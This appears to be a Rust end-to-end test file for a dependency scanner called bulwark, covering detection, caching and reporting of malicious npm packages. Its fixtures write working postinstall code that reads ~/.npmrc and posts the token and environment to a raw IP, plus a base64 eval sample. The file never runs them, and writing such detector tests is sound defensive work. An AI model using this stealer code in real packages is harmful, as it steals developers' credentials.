//! End-to-end tests of the code analysis inside `bulwark scan`: installed packages written by
//! the test (one benign, one that steals the npm token at install time) are analysed, cached by
//! integrity or file-list fingerprint, and reported with their location and dependency paths.
//! The malicious-looking package is only ever read, never run.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::{bulwark_command, json, run, write};

fn bulwark(args: &[&str]) -> Output {
    run(bulwark_command()
        .args(args)
        .env_remove("BULWARK_CACHE")
        .env_remove("BULWARK_DB"))
}

/// A project whose `node_modules` holds `left-trim` (benign) and `colors-helper` (a
/// postinstall that reads `~/.npmrc` and posts it to a raw IP).
fn project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        &root.join("package.json"),
        r#"{"name":"app","version":"1.0.0","dependencies":{"left-trim":"^2.0.0","colors-helper":"^1.0.0"}}"#,
    );
    let benign = root.join("node_modules/left-trim");
    write(
        &benign.join("package.json"),
        r#"{"name":"left-trim","version":"2.0.0","main":"index.js"}"#,
    );
    write(
        &benign.join("index.js"),
        "module.exports = function trim(s) { return s.replace(/^\\s+/, ''); };\n",
    );
    let evil = root.join("node_modules/colors-helper");
    write(
        &evil.join("package.json"),
        "{\n  \"name\": \"colors-helper\",\n  \"version\": \"1.0.1\",\n  \"main\": \"index.js\",\n  \"scripts\": { \"postinstall\": \"node setup.js\" }\n}\n",
    );
    write(&evil.join("index.js"), "module.exports = (s) => s;\n");
    write(
        &evil.join("setup.js"),
        "const fs = require('fs');\nconst os = require('os');\nconst https = require('https');\n\
         const token = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');\n\
         const req = https.request({ hostname: '45.61.12.9', path: '/c', method: 'POST' });\n\
         req.write(JSON.stringify({ token, env: process.env }));\nreq.end();\n",
    );
    dir
}

fn scan(root: &Path, cache: &Path, extra: &[&str]) -> Output {
    let mut args = vec![
        "scan".to_owned(),
        root.display().to_string(),
        "--no-db".to_owned(),
        "--format".to_owned(),
        "json".to_owned(),
        "--cache".to_owned(),
        cache.display().to_string(),
    ];
    args.extend(extra.iter().map(|a| (*a).to_owned()));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    bulwark(&args)
}

fn analysis(report: &serde_json::Value) -> (u64, u64) {
    let analysis = &report["summary"]["analysis"];
    (
        analysis["analysed"].as_u64().expect("analysed"),
        analysis["cached"].as_u64().expect("cached"),
    )
}

#[test]
fn malicious_installed_package_is_reported_and_fails_the_scan() {
    let project = project();
    let cache = project.path().join("cache/analysis.sqlite3");
    let output = scan(project.path(), &cache, &[]);
    assert_eq!(
        output.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let report = json(&output);
    let findings = report["findings"].as_array().unwrap();
    let code: Vec<_> = findings
        .iter()
        .filter(|f| f["kind"] == "malicious-code" || f["kind"] == "suspicious-code")
        .collect();
    assert_eq!(code.len(), 1, "{findings:#?}");
    let finding = code[0];
    assert_eq!(finding["kind"], "malicious-code");
    assert_eq!(finding["package"]["name"], "colors-helper");
    assert_eq!(finding["package"]["version"], "1.0.1");
    assert_eq!(finding["install_path"], "node_modules/colors-helper");
    assert_eq!(
        finding["location"]["file"],
        "node_modules/colors-helper/package.json"
    );
    assert!(finding["location"]["line"].as_u64() > Some(0));
    assert_eq!(
        finding["paths"][0],
        serde_json::json!(["app", "colors-helper@1.0.1"])
    );
    let evidence = finding["code"].as_array().unwrap();
    assert!(
        evidence
            .iter()
            .any(|e| e["file"] == "setup.js" && e["line"].as_u64() > Some(0)),
        "{evidence:#?}"
    );
    for item in evidence {
        for field in ["rule_id", "severity", "message", "file", "line", "evidence"] {
            assert!(!item[field].is_null(), "{field} missing in {item:#}");
        }
    }
    let summary = &report["summary"]["analysis"];
    assert_eq!(summary["malicious"], 1);
    assert_eq!(summary["clean"], 1);
    assert_eq!(summary["failed"], 0);
    assert_eq!(report["summary"]["findings"]["malicious-code"], 1);

    // Human output names the package, where it is and why.
    let human = bulwark(&[
        "scan",
        &project.path().display().to_string(),
        "--no-db",
        "--cache",
        &cache.display().to_string(),
    ]);
    assert_eq!(human.status.code(), Some(1));
    let text = String::from_utf8(human.stdout).unwrap();
    assert!(
        text.contains("malicious-code colors-helper@1.0.1")
            && text.contains("in node_modules/colors-helper")
            && text.contains("--> setup.js:"),
        "{text}"
    );
}

#[test]
fn second_scan_only_analyses_what_changed() {
    let project = project();
    let cache = project.path().join("analysis.sqlite3");
    let first = json(&scan(project.path(), &cache, &[]));
    assert_eq!(analysis(&first), (2, 0));
    let second = json(&scan(project.path(), &cache, &[]));
    assert_eq!(analysis(&second), (0, 2));
    // The cached verdict is the same verdict.
    assert_eq!(first["findings"], second["findings"]);

    // A file added to the benign package changes its fingerprint: only it is analysed again.
    write(
        &project.path().join("node_modules/left-trim/extra.js"),
        "module.exports = 2;\n",
    );
    let third = json(&scan(project.path(), &cache, &[]));
    assert_eq!(analysis(&third), (1, 1));
}

#[test]
fn no_analysis_and_fail_on_levels() {
    let project = project();
    let cache = project.path().join("analysis.sqlite3");
    let output = scan(project.path(), &cache, &["--no-analysis"]);
    assert_eq!(output.status.code(), Some(0));
    let report = json(&output);
    assert!(report["summary"]["analysis"].is_null());
    assert!(
        !report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["kind"] == "malicious-code"),
    );
    assert!(!cache.exists(), "--no-analysis does not create the cache");
    assert_eq!(
        scan(project.path(), &cache, &["--fail-on", "never"])
            .status
            .code(),
        Some(0)
    );
    assert_eq!(
        scan(project.path(), &cache, &["--fail-on", "suspicious"])
            .status
            .code(),
        Some(1)
    );
}

#[test]
fn suspicious_package_fails_only_with_fail_on_suspicious() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        &root.join("package.json"),
        r#"{"name":"app","version":"1.0.0","dependencies":{"dyn-eval":"1.0.0"}}"#,
    );
    let package = root.join("node_modules/dyn-eval");
    write(
        &package.join("package.json"),
        r#"{"name":"dyn-eval","version":"1.0.0","main":"index.js"}"#,
    );
    write(
        &package.join("index.js"),
        "module.exports = function (s) { return eval(Buffer.from(s, 'base64').toString()); };\n",
    );
    let cache = root.join("analysis.sqlite3");
    let output = scan(root, &cache, &[]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "suspicious is below the default level"
    );
    let report = json(&output);
    assert_eq!(report["summary"]["analysis"]["suspicious"], 1, "{report:#}");
    assert_eq!(report["findings"][0]["kind"], "suspicious-code");
    assert_eq!(
        scan(root, &cache, &["--fail-on", "suspicious"])
            .status
            .code(),
        Some(1)
    );
}

#[test]
fn unwritable_cache_is_reported_and_the_scan_goes_on() {
    let project = project();
    // A cache path under a regular file can never be created.
    let blocker = project.path().join("not-a-dir");
    std::fs::write(&blocker, "x").unwrap();
    let cache = blocker.join("analysis.sqlite3");
    let output = scan(project.path(), &cache, &[]);
    assert_eq!(output.status.code(), Some(1), "the findings still count");
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("analysis cache"), "{stderr}");
    let report = json(&output);
    assert_eq!(analysis(&report), (2, 0));
}

#[test]
fn cache_path_comes_from_the_environment() {
    let project = project();
    let cache = project.path().join("env-cache.sqlite3");
    let run = || {
        Command::new(env!("CARGO_BIN_EXE_bulwark"))
            .args([
                "scan",
                &project.path().display().to_string(),
                "--no-db",
                "-f",
                "json",
            ])
            .env("BULWARK_CACHE", &cache)
            .output()
            .unwrap()
    };
    assert_eq!(analysis(&json(&run())), (2, 0));
    assert!(cache.exists());
    assert_eq!(analysis(&json(&run())), (0, 2));
}

/// A project with one installed package that records its integrity (`_integrity`, as npm 6
/// and earlier wrote it).
fn project_with_integrity(extra_file: bool) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        &root.join("package.json"),
        r#"{"name":"app","version":"1.0.0","dependencies":{"left-trim":"^2.0.0"}}"#,
    );
    let package = root.join("node_modules/left-trim");
    write(
        &package.join("package.json"),
        r#"{"name":"left-trim","version":"2.0.0","main":"index.js","_integrity":"sha512-5yBk//F1KEeM3SubhIXKWuKQbrcuEbId2E89wDMGLdvV6M0QRuYKrGXmJRWhlhvM1o2Qq/hpAAklffVv/Vz4ow=="}"#,
    );
    write(
        &package.join("index.js"),
        "module.exports = function trim(s) { return s.replace(/^\\s+/, ''); };\n",
    );
    if extra_file {
        write(&package.join("postinstall.js"), "module.exports = 0;\n");
    }
    dir
}

#[test]
fn verdicts_are_shared_across_projects_by_integrity() {
    let cache_dir = tempfile::tempdir().unwrap();
    let cache = cache_dir.path().join("analysis.sqlite3");
    let first = project_with_integrity(false);
    let report = json(&scan(first.path(), &cache, &[]));
    assert!(
        report["packages"]
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["name"] == "left-trim" && !p["integrity"].is_null()),
        "the fixture records its integrity: {report:#}"
    );
    assert_eq!(analysis(&report), (1, 0));
    // Another project, written later (other mtimes), installs the same tarball: cached.
    let second = project_with_integrity(false);
    assert_eq!(analysis(&json(&scan(second.path(), &cache, &[]))), (0, 1));
    // Same integrity but a file that the tarball did not have: analysed again.
    let tampered = project_with_integrity(true);
    assert_eq!(analysis(&json(&scan(tampered.path(), &cache, &[]))), (1, 0));
}

/// Writes a copy of `colors-helper` 1.0.1 (one integrity) at `dir`; `payload` is its
/// postinstall file.
fn write_colors_helper(dir: &Path, payload: &str) {
    write(
        &dir.join("package.json"),
        "{\"name\":\"colors-helper\",\"version\":\"1.0.1\",\"scripts\":{\"postinstall\":\"node setup.js\"},\
         \"_integrity\":\"sha512-5yBk//F1KEeM3SubhIXKWuKQbrcuEbId2E89wDMGLdvV6M0QRuYKrGXmJRWhlhvM1o2Qq/hpAAklffVv/Vz4ow==\"}",
    );
    write(&dir.join("setup.js"), payload);
}

#[test]
fn copies_of_one_package_are_each_reported_and_a_changed_copy_is_analysed_on_its_own() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        &root.join("package.json"),
        r#"{"name":"app","version":"1.0.0","dependencies":{"colors-helper":"^1.0.0","a":"1.0.0","b":"1.0.0"}}"#,
    );
    write(
        &root.join("node_modules/a/package.json"),
        r#"{"name":"a","version":"1.0.0","dependencies":{"colors-helper":"^1.0.0"}}"#,
    );
    write(
        &root.join("node_modules/b/package.json"),
        r#"{"name":"b","version":"1.0.0","dependencies":{"colors-helper":"^1.0.0"}}"#,
    );
    let stealer = "const fs = require('fs');\nconst https = require('https');\n\
         const token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n\
         https.request({ hostname: '45.61.12.9', method: 'POST' }).end(token);\n";
    // Two identical copies (same integrity, same files) and one whose setup.js differs.
    write_colors_helper(&root.join("node_modules/colors-helper"), stealer);
    write_colors_helper(
        &root.join("node_modules/a/node_modules/colors-helper"),
        stealer,
    );
    write_colors_helper(
        &root.join("node_modules/b/node_modules/colors-helper"),
        "module.exports = 'a changed file that does nothing at all';\n",
    );
    let cache = root.join("cache.sqlite3");
    let report = json(&scan(root, &cache, &[]));
    let mut flagged: Vec<&str> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["kind"] == "malicious-code")
        .map(|f| f["install_path"].as_str().unwrap())
        .collect();
    flagged.sort_unstable();
    assert_eq!(
        flagged,
        [
            "node_modules/a/node_modules/colors-helper",
            "node_modules/colors-helper"
        ],
        "{report:#}"
    );
    let summary = &report["summary"]["analysis"];
    assert_eq!(summary["malicious"], 2, "{summary:#}");
    assert_eq!(summary["clean"], 3, "{summary:#}");
    assert_eq!(analysis(&report), (5, 0));
}
